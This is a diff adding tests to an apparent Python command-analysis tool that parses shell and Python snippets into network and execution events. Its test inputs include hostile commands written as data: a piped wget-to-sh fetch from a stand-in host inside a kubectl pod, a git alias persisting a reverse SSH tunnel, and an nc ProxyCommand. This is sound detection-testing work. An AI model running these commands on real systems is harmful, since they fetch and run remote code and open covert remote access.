@@ -320,6 +320,17 @@ def test_ssh_remote_command_is_parsed():
     assert hosts(events) == [("10.0.0.12", 22), ("169.254.169.254", 80)]
 
 
+def test_code_run_by_other_programs():
+    proxy = sh("ssh -o ProxyCommand='nc 203.0.113.5 22' internal-host")
+    assert ("203.0.113.5", 22) in hosts(proxy)
+    assert [e.wrappers for e in of(proxy, Exec) if e.name == "nc"] == [("ssh ProxyCommand",)]
+    pod = sh("kubectl run m --image=alpine -- sh -c 'wget -O- http://x.example/m | sh'")
+    assert "wget" in names(pod) and of(pod, CloudCall)[0].operation == "run"
+    alias = of(sh("git config --global alias.st '!ssh -fN -R 9000:localhost:22 u@203.0.113.5'"), FileWrite)[0]
+    assert alias.path == "~/.gitconfig" and "ssh -fN -R" in alias.content
+    assert of(sh("git config --global alias.st '!ssh -R 1:a:2 h'"), Connect) == []
+
+
 def test_python_fed_by_heredoc():
     events = sh("python3 - <<'EOF'\nimport os\nos.system('id')\nEOF\n")
     assert names(events) == ["python3", "id"]
@@ -415,6 +426,7 @@ def test_python_network_sinks():
     assert hosts(py("import urllib.request\nurllib.request.urlopen('https://example.org/x')")) == [("example.org", 443)]
     assert hosts(py("import urllib.request as u\nu.urlopen(u.Request('http://10.0.0.1:8080/'))")) == [("10.0.0.1", 8080)]
     assert hosts(py("import http.client\nc = http.client.HTTPConnection('10.1.2.3', 8000)")) == [("10.1.2.3", 8000)]
+    assert hosts(py("import asyncio\nasyncio.open_connection('10.9.8.7', 6379)")) == [("10.9.8.7", 6379)]
     assert hosts(py("import paramiko\nc = paramiko.SSHClient()\nc.connect('10.0.0.5', port=2222)")) == [("10.0.0.5", 2222)]
     bind = of(py("import socket\ns = socket.socket()\ns.bind(('0.0.0.0', 4444))"), Connect)[0]
     assert bind.direction == "listen" and bind.port == 4444
